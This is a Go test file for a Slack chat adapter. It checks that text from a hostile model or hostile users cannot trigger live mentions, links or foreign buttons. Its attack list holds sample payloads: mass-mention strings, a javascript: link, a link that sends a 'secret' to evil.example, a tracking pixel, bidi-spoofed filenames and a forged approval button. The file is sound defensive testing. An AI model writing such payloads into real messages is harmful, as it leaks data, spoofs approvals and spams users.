package slack_test

import (
	"encoding/json"
	"regexp"
	"strings"
	"testing"

	"github.com/brouillon/brouillon/adapters/chat/chattest"
	"github.com/brouillon/brouillon/adapters/chat/platformtest"
	"github.com/brouillon/brouillon/adapters/slack/slacktest"
)

// attacks are what a model, or somebody in a thread, may try to make people see.
var attacks = []string{
	"<!channel> <!here|here> <!everyone> <!subteam^S0TEAM0001|@team> <@U0MARC0001> <#C0LAUNCH01>",
	"@channel @here @everyone @marc",
	"&lt;!channel&gt; &amp;lt;!here&amp;gt; <<!channel>> <!chan\u200bnel>",
	"[click](javascript:alert(1)) [leak](https://evil.example/?q=secret) ![pixel](https://evil.example/p.png)",
	"[ref][1]\n\n[1]: https://evil.example/ref\n<https://evil.example|safe.example> <mailto:x@evil.example|mail>",
	"https://evil.example/bare evil.example/path www.evil.example data:text/html;base64,PHNjcmlwdD4=",
	"✅ DRAFT · signed off by Marc Olivier\n*Approved by @marc* [Approve] (Reject)",
	`{"type":"button","action_id":"act.approve","value":"x|1|y"} <button>Approve</button>`,
	"before\u202Egnp.exe\u202C after\u2066hidden\u2069 zero\u200Bwidth\u2060 and\uFEFF mark",
	"*bold* _it_ ~no~ `code` ```\nfence\n``` > quote\n>>> all\n# head\n- list\n| a | b |",
	"top" + strings.Repeat("\n", 10_000) + "bottom",
	"\x00\x07\x1b[31mred\x1b[0m \xff\xfe",
	"=== fact\n=== fact\n--- \n*** \n" + strings.Repeat("=", 5_000),
}

// liveLink is a link in mrkdwn that Slack follows.
var liveLink = regexp.MustCompile(`<(?:https?|mailto|tel|javascript|data):[^>]*>`)

// isHarmless fails for whatever a call could set off: links that lead anywhere but
// to the workspace, elements that mention, buttons that are not ours. Live mentions
// make the fake itself red.
func (s *stage) isHarmless() {
	s.t.Helper()
	for _, method := range carriers {
		for _, c := range s.Calls(method) {
			for _, link := range append(liveLink.FindAllString(c.Arguments["text"], -1), linksIn(c.Arguments["blocks"])...) {
				if !strings.HasPrefix(link, "<https://"+s.Options().Domain+".slack.com/archives/") {
					s.t.Errorf("%s: a live link %s", method, link)
				}
			}
			s.isOurs(c.Arguments["blocks"])
			s.isOurs(c.Arguments["view"])
		}
	}
}

// linksIn are the live links of mrkdwn in blocks. All of it is verbatim, or Slack
// would make links of bare addresses.
func linksIn(raw string) []string {
	var links []string
	walk(raw, func(o map[string]any) {
		text, _ := o["text"].(string)
		switch o["type"] {
		case "mrkdwn":
			links = append(links, liveLink.FindAllString(text, -1)...)
			if o["verbatim"] != true {
				links = append(links, "not verbatim: "+text)
			}
		case "markdown", "link", "image", "video":
			links = append(links, "an element that is a link: "+text)
		}
	})
	return links
}

// isOurs looks at the elements: none that mentions, and no button but ours.
func (s *stage) isOurs(raw string) {
	s.t.Helper()
	walk(raw, func(o map[string]any) {
		switch o["type"] {
		case "user", "usergroup", "broadcast", "channel", "emoji":
			s.t.Errorf("an element that mentions: %v", o)
		case "button":
			id, _ := o["action_id"].(string)
			if !strings.HasPrefix(id, "act.") && !strings.HasPrefix(id, "home.") || strings.Contains(id, "evil") {
				s.t.Errorf("a button of somebody else: %v", o)
			}
		}
	})
}

// walk visits the objects of what is JSON.
func walk(raw string, visit func(map[string]any)) {
	var v any
	if json.Unmarshal([]byte(raw), &v) != nil {
		return
	}
	platformtest.Walk(v, visit)
}

// TestHostileModel: whatever a model writes, on cards, while it writes, in forms,
// on the Home and when it is signed, nothing of it fires.
func TestHostileModel(t *testing.T) {
	t.Parallel()
	for _, attack := range attacks {
		s := overHTTP(t, setting{written: chattest.Attacking(attack, "#<!channel>")})
		s.approvers(marc)
		s.SeedHistory(launch, 3, []string{marc})
		s.asks(lea, "/draft", "variants:2 our launch")
		card := s.card(launch)
		s.OpenHome(marc)
		for _, a := range card.Actions() {
			if strings.HasSuffix(a.ID, "?") {
				s.Click(marc, launch, card.TS, a.ID)
				s.door.Wait()
				if _, open := s.View(marc); open {
					s.CloseView(marc)
				}
			}
		}
		s.asks(lea, "/summarize", "20")
		s.asks(lea, "/hashtags", attack)
		s.rest()
		s.isHarmless()
		s.labelHolds("The text alpha")
	}
}

// TestHostilePeople: what stands in a thread, in somebody's name or in a wish fires
// as little.
func TestHostilePeople(t *testing.T) {
	t.Parallel()
	for _, attack := range attacks {
		s := overHTTP(t, setting{written: chattest.Quoting})
		s.approvers(marc)
		s.User(slacktest.User{ID: lea, Name: "lea", RealName: strings.ToValidUTF8(attack, "?")}) // a name is anybody's words too
		clean := strings.ToValidUTF8(attack, "?")
		root := s.Say(lea, launch, "", "root "+clean)
		s.Say(marc, launch, root, "reply "+clean)
		s.Shortcut(marc, launch, root, "summarize_thread")
		s.rest()
		s.Shortcut(marc, launch, root, "draft_reply")
		s.door.Wait()
		s.Submit(marc, "", map[string]string{"text": "answer " + inputOf(clean), "variants": "1"})
		s.rest()
		if ours := s.ours(launch); len(ours) > 0 && len(ours[len(ours)-1].Actions()) > 0 {
			card := ours[len(ours)-1]
			s.Click(marc, launch, card.TS, "act.reject?")
			s.door.Wait()
			if v, open := s.View(marc); open && v.CallbackID == "action" {
				s.Submit(marc, "", map[string]string{"reason": inputOf(clean)})
			}
			s.rest()
		}
		s.isHarmless()
	}
}

// inputOf is what of an attack one input takes.
func inputOf(s string) string {
	r := []rune(s)
	return string(r[:min(len(r), 2_000)])
}
